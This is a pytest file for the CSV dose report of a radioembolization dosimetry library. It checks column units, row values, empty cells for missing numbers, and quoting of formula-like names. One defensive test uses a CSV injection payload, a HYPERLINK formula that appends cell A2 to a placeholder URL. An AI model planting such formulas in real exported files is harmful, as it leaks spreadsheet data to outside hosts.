import csv
import dataclasses
import io

import pytest

from sirtjax.io import plain_cell
from sirtjax.reports import voi_csv


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_columns_carry_their_units(result):
    header = voi_csv(result).splitlines()[0].split(",")
    assert header[:13] == [
        "name", "kind", "territory", "volume_ml", "mask_ml", "mass_g", "activity_mbq", "uptake_fraction", "tn_ratio",
        "multi_compartment_mean_gy", "mean_gy", "min_gy", "max_gy",
    ]  # fmt: skip
    assert header[13:20] == ["d98_gy", "d95_gy", "d70_gy", "d50_gy", "d2_gy", "v70gy_percent", "v100gy_percent"]
    assert header[20:22] == ["mean_bed_gy", "tcp"]
    assert header[22:] == ["dose_method", "other_dose_method", "other_mean_gy"]


def test_one_row_a_voi_with_its_numbers(result):
    rows = rows_of(voi_csv(result))
    assert [row["name"] for row in rows] == [voi.name for voi in result.vois]
    assert float(rows[3]["volume_ml"]) == pytest.approx(12.345678, rel=1e-5)
    assert rows[3]["d95_gy"] == "30" and rows[3]["v100gy_percent"] == "4" and rows[3]["tcp"] == "0.5"


def test_an_absent_value_is_empty(result):
    rows = rows_of(voi_csv(result))
    lungs = rows[-1]
    assert lungs["min_gy"] == lungs["d95_gy"] == lungs["v70gy_percent"] == lungs["mean_bed_gy"] == ""
    assert rows[0]["tn_ratio"] == ""


def test_a_number_that_is_none_is_empty(result):
    odd = dataclasses.replace(result.vois[0], mean_gy=float("nan"), max_gy=float("inf"))
    row = rows_of(voi_csv(dataclasses.replace(result, vois=(odd,))))[0]
    assert row["mean_gy"] == row["max_gy"] == ""


def test_names_are_no_formulas_and_numbers_stay_numbers(result):
    name = '=HYPERLINK("http://example.org/?a="&A2,"lesion 1")'
    harmful = dataclasses.replace(result.vois[3], name=name, territory="+right", mean_gy=-1.25)
    rows = rows_of(voi_csv(dataclasses.replace(result, vois=(harmful,))))
    (row,) = rows
    assert (row["name"], row["territory"], row["mean_gy"]) == (f"'{name}", "'+right", "-1.25")
    assert plain_cell(row["name"]) == name
